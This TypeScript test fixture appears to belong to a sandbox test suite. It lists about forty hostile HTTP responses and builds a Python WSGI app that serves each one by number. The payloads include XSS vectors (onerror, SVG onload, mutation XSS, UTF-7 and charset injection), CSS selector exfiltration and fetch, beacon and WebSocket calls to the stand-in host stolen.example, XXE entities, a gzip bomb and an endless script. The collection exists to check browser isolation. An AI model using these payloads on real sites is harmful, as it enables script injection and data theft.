// Answers that mean ill: what a program may say to a browser so that it goes elsewhere, fetches, opens, keeps or runs something. Each is shown as a
// rendered answer, and browsed with its scripts running.
import { gzipSync } from 'node:zlib';
import { HARMS } from './ground.ts';

export interface HostileResponse {
  name: string;
  status?: string;
  headers?: readonly (readonly [string, string])[];
  /** Text is sent as UTF-8. */
  body: string | Buffer;
  /** In a frame without walls it is heard: by these a test can tell that walls are what holds. */
  loud?: true;
  /** It goes on for ever where its scripts run: only shown. */
  still?: true;
}

const AT = 'http://stolen.example/';
const OUT = (name: string) => `${AT}${name}`;
const script = (code: string) => `<script>${code}</script><p>There is a script.`;
const loud = true;

export const responses: readonly HostileResponse[] = [
  { name: 'with a Refresh header', headers: [['Refresh', `0; url=${OUT('refresh')}`]], body: 'x' },
  { name: 'with a Location outside', status: '302 Found', headers: [['Location', OUT('location')]], body: '' },
  { name: 'with a Location that is a script', status: '302 Found', headers: [['Location', `javascript:${HARMS}`]], body: '' },
  {
    name: 'with Link headers that preload and preconnect',
    headers: [['Link', `<${OUT('preload')}>; rel=preload; as=image, <${AT}>; rel=preconnect`]],
    body: 'x',
  },
  {
    name: 'with a policy of its own that allows all',
    headers: [['Content-Security-Policy', 'default-src * data: blob:']],
    body: `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${OUT('policy')}">`,
    loud,
  },
  {
    name: 'with cookies for every site and path',
    headers: [
      ['Set-Cookie', 'beside=stolen; Path=/; Max-Age=99999'],
      ['Set-Cookie', 'x=y; Domain=localhost'],
    ],
    body: script('document.cookie = "beside=stolen"'),
  },
  {
    name: 'that wants all of the site’s data cleared',
    headers: [
      ['Clear-Site-Data', '"*"'],
      ['Service-Worker-Allowed', '/'],
      ['Report-To', `{"endpoints":[{"url":"${OUT('report')}"}]}`],
      ['NEL', '{"report_to":"x","max_age":1}'],
    ],
    body: 'x',
  },
  {
    name: 'to be downloaded',
    headers: [['Content-Disposition', 'attachment; filename="evil.exe"']],
    body: script(
      'const a = document.createElement("a"); a.href = "data:,x"; a.download = "evil.exe"; document.body.append(a); a.click()',
    ),
  },
  {
    name: 'with HTML in its status and headers',
    status: `200 <img src=x onerror=${HARMS}>`,
    headers: [['X-Evil', `"><script>${HARMS}</script>`]],
    body: 'x',
  },
  { name: 'that refreshes itself away', body: `<meta http-equiv="refresh" content="0; url=${OUT('meta-refresh')}">` },
  {
    name: 'with images, films, objects and frames',
    body: `<img src="${OUT('img')}"><video poster="${OUT('poster')}"></video><object data="${OUT('object')}"></object><iframe src="${OUT('frame')}"></iframe>`,
    loud,
  },
  {
    name: 'with style sheets that fetch',
    body: `<style>@import url(${OUT('import')}); @font-face { font-family: f; src: url(${OUT('font')}) } p { font-family: f; background: url(${OUT('css')}) }</style><link rel=stylesheet href="${OUT('sheet')}"><p>x`,
    loud,
  },
  {
    name: 'with attribute selectors that read a field out',
    body: `<style>input[value^="s"] { background: url(${OUT('selector')}) }</style><input value="secret">`,
    loud,
  },
  {
    name: 'that asks for names and connections ahead',
    body: `<link rel=dns-prefetch href="//looked-up.example"><link rel=preconnect href="${AT}"><link rel=prefetch href="${OUT('prefetch')}"><link rel=modulepreload href="${OUT('modulepreload')}">`,
    loud,
  },
  {
    name: 'with a form that sends itself to the top',
    body: `<form id=f action="${OUT('form')}" target=_top method=post><input name=a value=b></form>${script('f.submit()')}`,
  },
  {
    name: 'with links that click themselves',
    body: `<a id=a href="${OUT('link')}" target=_top ping="${OUT('ping')}">x</a><a id=b href="${OUT('blank')}" target=_blank rel=opener>y</a>${script('a.click(); b.click()')}`,
  },
  {
    name: 'that leads the top and the parent away',
    body: script(
      `try { top.location = "${OUT('top')}" } catch {} try { parent.location = "${OUT('parent')}" } catch {} try { top.location.hash = "gone" } catch {}`,
    ),
  },
  {
    name: 'that opens windows',
    body: script(`open("${OUT('window')}"); open("about:blank", "_blank"); open("${OUT('named')}", "Python")`),
  },
  { name: 'that asks, warns and prints', body: script('alert(1); confirm(1); prompt(1); print()') },
  {
    name: 'that fetches by script',
    body: script(
      `fetch("${OUT('fetch')}", { mode: "no-cors" }); new Image().src = "${OUT('image')}"; navigator.sendBeacon("${OUT('beacon')}", "x"); const x = new XMLHttpRequest(); x.open("GET", "${OUT('xhr')}"); x.send()`,
    ),
    loud,
  },
  {
    name: 'that opens sockets',
    body: script(`new WebSocket("ws://stolen.example/socket"); new EventSource("${OUT('events')}")`),
    loud,
  },
  {
    name: 'that imports scripts and starts workers',
    body: `<script src="${OUT('script')}"></script><script type=module>import "${OUT('module')}"</script>${script(`new Worker(URL.createObjectURL(new Blob(["fetch('${OUT('worker')}')"]))); try { new SharedWorker("${OUT('shared')}") } catch {}`)}`,
    loud,
  },
  {
    name: 'that talks to a peer',
    body: script(
      'const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:UDP" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o))',
    ),
  },
  { name: 'that registers a service worker', body: script('navigator.serviceWorker?.register("/service-worker.js?evil")') },
  {
    name: 'that reads what the browser keeps',
    body: script(
      'for (const read of [() => localStorage.getItem("onionskin"), () => sessionStorage.length, () => document.cookie, () => parent.localStorage.getItem("beside"), () => top.document.body.innerHTML]) try { document.title = read() } catch {} indexedDB.deleteDatabase("beside"); caches.delete("beside"); cookieStore.delete("beside")',
    ),
  },
  {
    name: 'that clears what the browser keeps',
    body: script(
      'try { localStorage.clear() } catch {} try { parent.localStorage.clear() } catch {} try { top.indexedDB.deleteDatabase("beside") } catch {} document.cookie = "beside=; max-age=0"',
    ),
  },
  {
    name: 'that runs a script in the page around it',
    body: script(
      `try { top.eval("${HARMS}") } catch {} try { parent.document.write("x") } catch {} try { parent.parent.harmed = 1 } catch {}`,
    ),
  },
  {
    name: 'that shouts 100,000 times at the page',
    body: script(
      'for (let n = 0; n < 100000; n += 1) { parent.postMessage({ kind: "link", href: "/x" }, "*"); top.postMessage({ kind: "answered", id: n }, "*") }',
    ),
  },
  {
    name: 'with frames within frames that have scripts',
    body: `<iframe srcdoc="<iframe srcdoc='<img src=${OUT('deep')}><script>fetch(&quot;${OUT('deeper')}&quot;)</script>'></iframe>"></iframe>`,
    loud,
  },
  { name: 'whose base is elsewhere', body: `<base href="${AT}" target="_top"><img src="base"><a href="x">x</a>`, loud },
  {
    name: 'that breaks out of comments, titles and attributes',
    body: `--></title></style></textarea></noscript></template>"'><img src="${OUT('broken')}" onerror="${HARMS}"><svg onload="${HARMS}">`,
    loud,
  },
  {
    name: 'that changes when it is read again',
    body: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${OUT('mutant')} onerror=${HARMS}&gt;">`,
  },
  {
    name: 'that is a picture with a script',
    headers: [['Content-Type', 'image/svg+xml']],
    body: `<svg xmlns="http://www.w3.org/2000/svg" onload="${HARMS}"><script>${HARMS}</script><image href="${OUT('svg')}"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${OUT('foreign')}"/></foreignObject></svg>`,
  },
  {
    name: 'that is XML with a style sheet and entities',
    headers: [['Content-Type', 'application/xml']],
    body: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${OUT('xsl')}"?><!DOCTYPE a [<!ENTITY a SYSTEM "${OUT('entity')}"><!ENTITY b "${'&c;'.repeat(99)}">]><a>&a;&b;</a>`,
  },
  {
    name: 'in parts that replace each other',
    headers: [['Content-Type', 'multipart/x-mixed-replace; boundary=x']],
    body: `--x\r\nContent-Type: text/html\r\n\r\n<script>${HARMS}</script>\r\n--x--`,
  },
  {
    name: 'in UTF-7',
    headers: [['Content-Type', 'text/html; charset=utf-7']],
    body: `+ADw-script+AD4-${HARMS}+ADw-/script+AD4-`,
  },
  {
    name: 'in an encoding that switches',
    headers: [['Content-Type', 'text/html; charset=iso-2022-jp']],
    body: Buffer.from(`\x1b$B<img alt="\x1b(B"><img src=x onerror="${HARMS}">`),
  },
  {
    name: 'with a type that is HTML',
    headers: [['Content-Type', `text/html;charset="><img src=x onerror=${HARMS}>`]],
    body: '<p>x',
  },
  {
    name: 'that unpacks to 100 megabytes',
    headers: [
      ['Content-Type', 'text/html'],
      ['Content-Encoding', 'gzip'],
    ],
    body: gzipSync(Buffer.alloc(100_000_000), { level: 9 }),
  },
  { name: 'of 20,000 elements within each other', body: `${'<div>'.repeat(20_000)}x` },
  { name: 'whose script never ends', body: script('for (;;);'), still: true },
];

/** Leads its own frame away. That is refused, but Chromium may have opened a connection before it asks the policy: no wall of a page's holds that. */
export const LEAVING: HostileResponse = {
  name: 'that leads its own frame away',
  body: script(`onload = () => setTimeout(() => { location = "${OUT('own')}" }, 200)`),
};

/** Answers `/<n>` with the n-th of them. */
export function program(udp: number): string {
  const rows = [...responses, LEAVING].map(({ status = '200 OK', headers = [], body }) => {
    const whole = headers.some(([name]) => name === 'Content-Type')
      ? headers
      : [['Content-Type', 'text/html; charset=utf-8'], ...headers];
    const bytes = typeof body === 'string' ? Buffer.from(body.replaceAll('UDP', String(udp))) : body;
    return [status, whole, bytes.toString('base64')];
  });
  return `import base64
import json

ROWS = json.loads(${JSON.stringify(JSON.stringify(rows))})


def application(environ, start_response):
    name = environ["PATH_INFO"][1:]
    if not name.isdigit():
        start_response("200 OK", [("Content-Type", "text/plain")])
        return [b"[honest]"]
    status, headers, body = ROWS[int(name)]
    start_response(status, [tuple(header) for header in headers])
    return [base64.b64decode(body)]
`;
}
